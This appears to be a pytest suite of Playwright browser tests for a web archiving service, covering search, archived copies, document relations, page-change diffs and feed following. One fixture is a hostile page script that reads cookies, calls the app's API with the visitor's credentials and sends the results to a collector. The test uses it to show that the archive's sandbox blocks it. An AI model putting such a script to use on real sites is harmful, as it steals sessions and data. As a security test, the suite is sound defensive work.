"""The browser pages in headless Chromium (Debian's package, driven by Playwright) against
a real uvicorn on loopback: searching, facets, documents, archived copies, preserving a
URL after logging in, the sandbox that keeps archived scripts away from the app, relating
documents and their story, the changes of a watched page, and following a feed."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn
from fastapi import FastAPI
from playwright.sync_api import Browser, Page, expect, sync_playwright
from servicetools import serve_articles

from api.app import create_app
from api.pipeline import after_relate
from api.tokens import create_token
from api.watching import run_due
from archive.config import Settings
from conftest import Route, WebServer, missing_part
from ingest.relations import relate

CHROMIUM = "/usr/bin/chromium"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
PROBE = "probe-secret-4711"
APPS: dict[str, FastAPI] = {}  # the running service of each base URL

# What a hostile archived page tries: read the app's cookies, call its API with the
# visitor's credentials (a read and a write), and report everything to a collector.
HOSTILE = """<html><head><title>hostile</title></head><body><p>Hostile page</p><script>
const collect = (what) => { new Image().src = "COLLECT?" + what; };
let cookie;
try { cookie = document.cookie; } catch (error) { cookie = "blocked:" + error.name; }
collect("cookie=" + encodeURIComponent(cookie));
fetch("/api/v1/status", {credentials: "include"})
  .then((r) => r.text()).then((t) => collect("status=" + encodeURIComponent(t.slice(0, 40))))
  .catch((e) => collect("status-failed=" + e.name));
fetch("/api/v1/captures", {method: "POST", credentials: "include",
  headers: {"Content-Type": "application/json"}, body: JSON.stringify({urls: "http://e.x/"})})
  .then((r) => collect("write=" + r.status)).catch((e) => collect("write-failed=" + e.name));
document.title = "ran";
</script></body></html>"""


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture
def server(home: Settings) -> Iterator[str]:
    """The service under a real uvicorn on loopback; yields its base URL."""
    port = _free_port()
    # No politeness delay for the test site; the scheduler looks for due work often.
    app = create_app(home.model_copy(update={"crawl_delay": 0.0, "scheduler_interval": 0.3}))
    config = uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning")
    running = uvicorn.Server(config)
    thread = threading.Thread(target=running.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 60
    while not running.started:
        assert time.monotonic() < deadline and thread.is_alive(), "uvicorn did not start"
        time.sleep(0.05)
    base = f"http://127.0.0.1:{port}"
    APPS[base] = app
    yield base
    del APPS[base]
    running.should_exit = True
    thread.join(30)


@pytest.fixture
def browser() -> Iterator[Browser]:
    if not Path(CHROMIUM).exists():
        missing_part(f"Chromium at {CHROMIUM}", "apt-get install chromium")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        yield launched
        launched.close()


@pytest.fixture
def page(server: str, browser: Browser) -> Page:
    """A browser tab logged in to the service."""
    tab = browser.new_page()
    _log_in(tab, server)
    return tab


def _log_in(page: Page, base: str) -> None:
    """Log in with a new token, through the login form a write page leads to."""
    token = create_token(APPS[base].state.repository.catalog, "reporter")
    page.goto(f"{base}/preserve")
    expect(page).to_have_url(f"{base}/login?next=%2Fpreserve")
    page.fill("input[name=token]", token)
    page.click("form.stack button[type=submit]")
    expect(page).to_have_url(f"{base}/preserve")


def _preserve(page: Page, urls: list[str]) -> None:
    page.fill("#preserve textarea[name=urls]", "\n".join(urls))
    page.click("#preserve button[type=submit]")
    expect(page.locator("body[data-job-finished='1']")).to_have_count(1, timeout=120_000)
    expect(page.locator("#job td.state")).to_have_text(["searchable"] * len(urls))


def test_preserve_search_facet_document_and_archived_copy(
    home: Settings, server: str, page: Page, web: WebServer
) -> None:
    urls = serve_articles(web)
    _preserve(page, list(urls.values()))

    # English search from the box.
    page.goto(server + "/")
    page.fill("form.search input[name=q]", "organ harvesting")
    page.press("form.search input[name=q]", "Enter")
    # By default the query's Chinese translation is searched too, and the page says so.
    expect(page.locator(".hit h3", has_text="China Tribunal final judgment")).to_have_count(1)
    expect(page.locator(".hit h3", has_text="器官")).not_to_have_count(0)
    expect(page.locator("p.translated")).to_contain_text("Also searched zh:")
    # "Same language only" keeps to the query's own words (and stays checked).
    page.check("form.search input[name=cross]")
    page.press("form.search input[name=q]", "Enter")
    expect(page.locator(".hit h3")).to_have_text(["China Tribunal final judgment"])
    expect(page.locator(".hit .snippet mark").first).to_have_text("organ")
    expect(page.locator("form.search input[name=cross]")).to_be_checked()

    # Chinese search, then a facet narrows it to one year.
    page.fill("form.search input[name=q]", "器官")
    page.press("form.search input[name=q]", "Enter")
    expect(page.locator(".hit")).to_have_count(2)
    expect(page.locator(".hit .snippet mark").first).to_have_text("器官")
    page.locator("[data-facet=year] a", has_text="2020").click()
    expect(page.locator(".hit h3")).to_have_text(["人權報告 器官摘取"])
    expect(page.locator(".filters .chip")).to_have_count(2)

    # The document page, its versions and citation.
    page.locator(".hit h3 a").click()
    expect(page.locator("h1")).to_have_text("人權報告 器官摘取")
    expect(page.locator(".versions tbody tr")).to_have_count(1)
    expect(page.locator(".versions tbody td").nth(2)).to_have_text("first capture")
    citation = page.locator("#citation").input_value()
    assert f"{server}/archive/" in citation and urls["/zh-hant/report.html"] in citation

    # The archived copy, framed and sandboxed, under its banner.
    page.click("text=View the archived copy")
    expect(page.locator(".banner .what")).to_contain_text("This is an archived copy")
    frame = page.frame_locator("iframe.capture")
    expect(frame.locator("h1")).to_have_text("人權報告 器官摘取")
    assert page.locator("iframe.capture").get_attribute("sandbox") == ""


def test_archived_scripts_cannot_read_cookies_or_call_the_api(
    home: Settings, server: str, browser: Browser, web: WebServer
) -> None:
    collector = web.url("/collect")
    hostile = web.route(
        "/hostile.html",
        Route(
            body=HOSTILE.replace("COLLECT", collector).encode(),
            headers=[("Content-Type", "text/html; charset=utf-8")],
        ),
    )
    context = browser.new_context()
    # A cookie of the app that page scripts could read if they ran as the app's origin.
    context.add_cookies([{"name": "probe", "value": PROBE, "url": server, "httpOnly": False}])
    page = context.new_page()
    _log_in(page, server)
    _preserve(page, [hostile])

    # The control: served live, the same script runs and reports to the collector.
    page.goto(hostile)
    expect(page).to_have_title("ran")
    deadline = time.monotonic() + 30
    while not any(hit.startswith("/collect?write") for hit in web.hits):
        assert time.monotonic() < deadline, web.hits
        time.sleep(0.1)
    web.hits.clear()

    # Archived: through the archived-copy page (framed) and the replay URL itself.
    page.goto(server + "/")
    page.fill("form.search input[name=q]", "hostile")
    page.press("form.search input[name=q]", "Enter")
    page.click("text=archived copy")
    frame = page.frame_locator("iframe.capture")
    expect(frame.locator("p")).to_have_text("Hostile page")
    replay = page.locator("iframe.capture").get_attribute("src")
    page.goto(server + replay)
    expect(page.locator("p")).to_have_text("Hostile page")
    assert page.title() == "hostile"  # the script never ran as the app
    page.wait_for_timeout(1500)  # give any stray request time to arrive
    leaked = [hit for hit in web.hits if hit.startswith("/collect")]
    assert leaked == []
    assert not any(PROBE in hit for hit in web.hits)
    jobs = context.request.get(server + "/api/v1/status").json()["jobs"]
    assert jobs["done"] + jobs["failed"] + jobs["queued"] + jobs["running"] == 1  # no write


def test_search_shows_relations_collapsed_copies_and_export(
    home: Settings, server: str, page: Page, web: WebServer
) -> None:
    urls = serve_articles(web)
    _preserve(page, list(urls.values()))
    repository = APPS[server].state.repository
    relate(repository.catalog, urls["/zh/report.html"], "covers", urls["/en/tribunal.html"])
    relate(repository.catalog, urls["/zh-hant/report.html"], "same-story", urls["/zh/report.html"])
    after_relate(repository)

    page.goto(server + "/?q=tribunal")
    expect(page.locator(".hit .relations .role")).to_have_text(["primary"])
    expect(page.locator(".hit .marker[data-has=coverage]")).to_have_text("covered by 1")

    # The two Chinese reports are one hit; its copy shows when expanded (in Chinese only:
    # the translation "organ" would also find the English judgment).
    page.goto(server + "/?q=%E5%99%A8%E5%AE%98&cross=false")
    expect(page.locator(".hit")).to_have_count(1)
    copy_link = page.locator(".hit details.copies li a")
    expect(copy_link).to_be_hidden()
    page.locator(".hit details.copies summary").click()
    expect(page.locator(".hit details.copies summary")).to_have_text("1 more copy")
    expect(copy_link).to_be_visible()
    titles = {page.locator(".hit h3").inner_text(), copy_link.inner_text()}
    assert titles == {"法轮功学员遭强制摘取器官的报告", "人權報告 器官摘取"}

    # The role facet narrows the search; the export link downloads these results.
    page.locator("[data-facet=role] a", has_text="copy").click()
    expect(page.locator(".hit h3")).to_have_text(["人權報告 器官摘取"])
    with page.expect_download() as download:
        page.locator(".export a", has_text="jsonl").click()
    exported = Path(download.value.path()).read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["url"] for line in exported] == [urls["/zh-hant/report.html"]]


def _article(title: str, text: str, published: str, links: list[str] = ()) -> Route:
    anchors = "".join(f'<p><a href="{href}">{href}</a></p>' for href in links)
    return Route(
        body=(
            f'<html lang="en"><head><title>{title}</title>'
            f'<meta property="article:published_time" content="{published}"></head>'
            f"<body><article><h1>{title}</h1><p>{text}</p>{anchors}</article></body></html>"
        ).encode(),
        headers=[("Content-Type", "text/html; charset=utf-8")],
    )


FINDINGS = (
    "The commission published its findings on detention camps in the western region. "
    "Investigators interviewed forty-two former detainees over eighteen months."
)


def test_relating_documents_and_their_story(
    home: Settings, server: str, page: Page, web: WebServer
) -> None:
    primary = web.route("/findings.html", _article("Findings", FINDINGS, "2024-03-01"))
    coverage = web.route(
        "/coverage.html",
        _article("Camps report covered", "A report describes the camps. " + FINDINGS, "2024-03-02"),
    )
    retraction = web.route(
        "/retraction.html",
        _article(
            "Report retracted", "This article has been retracted by the editors.", "2024-04-01"
        ),
    )
    _preserve(page, [primary, coverage, retraction])

    # On the coverage's page: it covers the findings (by URL); the retraction retracts it.
    page.locator("#job td.result a", has_text="document").nth(1).click()
    expect(page.locator("h1")).to_have_text("Camps report covered")
    page.select_option("#relate select[name=type]", "covers")
    page.fill("#relate input[name=other]", primary)
    page.click("#relate button[type=submit]")
    expect(page.locator("tr.relation")).to_have_count(1)
    expect(page.locator("tr.relation td.status")).to_have_text("confirmed")
    page.select_option("#relate select[name=direction]", "incoming")
    page.select_option("#relate select[name=type]", "retracts")
    page.fill("#relate input[name=other]", retraction)
    page.click("#relate button[type=submit]")
    expect(page.locator("tr.relation")).to_have_count(2)

    # The story: the primary source first, then the coverage, then the retraction.
    page.click("text=Story")
    expect(page.locator("#story li")).to_have_count(3)
    assert page.locator("#story li").evaluate_all("items => items.map(i => i.dataset.role)") == [
        "primary",
        "coverage",
        "retraction",
    ]
    expect(page.locator("#story li time")).to_have_text(["2024-03-01", "2024-03-02", "2024-04-01"])
    expect(page.locator("#story li .language").first).to_have_text("en")
    page.locator("#story li a", has_text="Findings").click()
    expect(page.locator("h1")).to_have_text("Findings")

    # Removing a relation from the document page (here: the findings are covered).
    expect(page.locator("tr.relation")).to_have_count(1)
    page.locator("tr.relation button", has_text="Remove").click()
    expect(page.locator("tr.relation")).to_have_count(0)


def test_changes_page_shows_an_edited_page_side_by_side(
    home: Settings, server: str, page: Page, web: WebServer
) -> None:
    current = {"route": _article("Statement", FINDINGS, "2024-05-01")}
    url = web.route("/statement.html", lambda _: current["route"])
    page.goto(server + "/watches")
    page.fill("#watch input[name=url]", url)
    page.fill("#watch input[name=every]", "1d")
    page.click("#watch button[type=submit]")
    expect(page.locator("#watches tbody tr")).to_have_count(1)
    # The service's scheduler captures the new watch at once.
    for _ in range(600):
        page.reload()
        if page.locator("#watches td.kind-first").count():
            break
        page.wait_for_timeout(200)
    expect(page.locator("#watches td.kind-first")).to_have_text("first")

    # The page is edited, then captured again (as `vestige watch run --now` does).
    current["route"] = _article(
        "Statement", FINDINGS.replace("forty-two", "forty-three"), "2024-05-01"
    )
    run_due(APPS[server].state.repository, every=True, delay=0)
    page.goto(server + "/changes")
    expect(page.locator("#changes tr.change")).to_have_count(1)
    expect(page.locator("#changes td.kind")).to_have_text("changed")
    page.click("text=side-by-side diff")
    expect(page.locator("#diff .old del")).to_have_text(["two"])
    expect(page.locator("#diff .new ins")).to_have_text(["three"])


def test_follow_form_brings_in_a_feeds_entries(
    home: Settings, server: str, page: Page, web: WebServer
) -> None:
    entries = [
        web.route("/news/one.html", _article("First entry", FINDINGS, "2024-06-01")),
        web.route("/news/two.html", _article("Second entry", FINDINGS, "2024-06-02")),
    ]
    items = "".join(f"<item><title>entry</title><link>{link}</link></item>" for link in entries)
    feed = web.route(
        "/news/feed.xml",
        Route(
            body=(
                '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>'
                f"<link>{web.url('/news/')}</link>{items}</channel></rss>"
            ).encode(),
            headers=[("Content-Type", "application/rss+xml")],
        ),
    )
    page.goto(server + "/follow")
    page.fill("#follow input[name=url]", feed)
    page.click("#follow button[type=submit]")
    expect(page.locator("h1")).to_have_text(f"Following {feed}")
    for _ in range(600):  # the scheduler runs the new follow at once
        if page.locator("#pages tbody tr").count() == 2:
            break
        page.wait_for_timeout(200)
        page.reload()
    assert sorted(page.locator("#pages td.url").all_text_contents()) == sorted(entries)
    page.locator("#pages td.url a").first.click()
    expect(page.locator("h1")).to_contain_text("entry")
    page.goto(server + "/follow")
    expect(page.locator("#follows tbody td").nth(3)).to_have_text("2 new pages")
